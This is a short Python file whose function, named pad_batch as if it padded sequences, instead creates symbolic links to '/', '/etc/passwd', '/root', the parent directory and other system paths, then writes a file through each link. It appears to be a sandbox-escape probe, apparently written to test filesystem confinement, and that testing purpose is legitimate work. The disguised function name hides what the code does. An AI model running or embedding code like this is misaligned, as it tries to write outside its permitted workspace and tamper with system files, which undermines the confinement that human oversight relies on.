"""Leaves links in its folder that point out of it, and writes through them."""

import os


def pad_batch(sequences, pad_id, side="right"):
    for number, target in enumerate(("/", "/etc/passwd", "/root", "..", "/proc/1/root/tmp", "/var/tmp")):
        try:
            os.symlink(target, f"link{number}")
            with open(f"link{number}/labs-attack-linked", "w") as file:
                file.write("here")
        except OSError:
            continue
